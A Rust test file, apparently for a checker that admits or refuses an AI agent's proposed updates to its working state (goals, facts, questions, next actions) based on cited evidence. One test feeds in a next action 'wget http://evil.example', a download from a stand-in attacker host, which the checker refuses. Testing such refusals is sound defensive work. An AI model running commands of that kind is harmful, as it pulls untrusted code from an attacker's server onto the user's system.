//! Deltas: the same checks, as changes of the board.

use serde_json::json;

use super::*;
use crate::trace::claim::Change;

#[test]
fn a_delta_keeps_what_holds() {
    let session = story();
    let (delta, refused) = delta(
        &session,
        json!({
            "current_goal": { "text": "fix the failing ledger test", "evidence": "user#1" },
            "confirmed_facts": [
                { "text": "3 passed", "evidence": ["cmd#2 exit=0"] },
                { "id": "f1", "text": "line 6 holds `==`", "evidence": ["file:src/ledger.py:L6"] },
                { "id": "f2", "retract": true, "evidence": ["cmd#2"] },
                { "id": "f3", "retract": true },
                { "text": "9 passed", "evidence": ["cmd#2 exit=0"] },
            ],
            "open_questions": ["is report() exact?", { "id": "q1", "retract": true }],
            "status": { "tests": "3 passed", "build": "ok", "errors_left": 12 },
            "next_actions": ["run `pytest -q` again"],
        }),
    )
    .expect("most of it holds");
    assert_eq!(delta.current_goal.expect("the user's").evidence.pointer, "user#1");
    assert!(matches!(&delta.confirmed_facts[..], [Change::Add(_), Change::Revise { .. }, Change::Retract { .. }]));
    assert!(matches!(&delta.open_questions[..], [
        Change::Add(_),
        Change::Retract { .. },
        Change::Add(demoted)
    ] if demoted.unknown));
    assert_eq!(delta.status.map(|status| status.tests.text).as_deref(), Some("3 passed"));
    assert_eq!(delta.next_actions.as_deref(), Some(&["run `pytest -q` again".to_owned()][..]));
    let kinds: Vec<&RefusalKind> = refused.iter().map(|refusal| &refusal.kind).collect();
    assert!(
        matches!(
            kinds[..],
            [
                RefusalKind::NoEvidence,
                RefusalKind::NotInEvidence { .. },
                RefusalKind::NotInEvidence { .. },
                RefusalKind::CommandNeverRan
            ]
        ),
        "{kinds:?}"
    );
}

#[test]
fn an_empty_delta_is_none() {
    assert_eq!(delta(&story(), json!({})), Err(AdmissionRefused::Empty { refused: vec![] }));
    let refused = delta(&story(), json!({ "next_actions": ["wget http://evil.example"] }));
    assert!(matches!(refused, Err(AdmissionRefused::Empty { refused }) if refused.len() == 1));
}
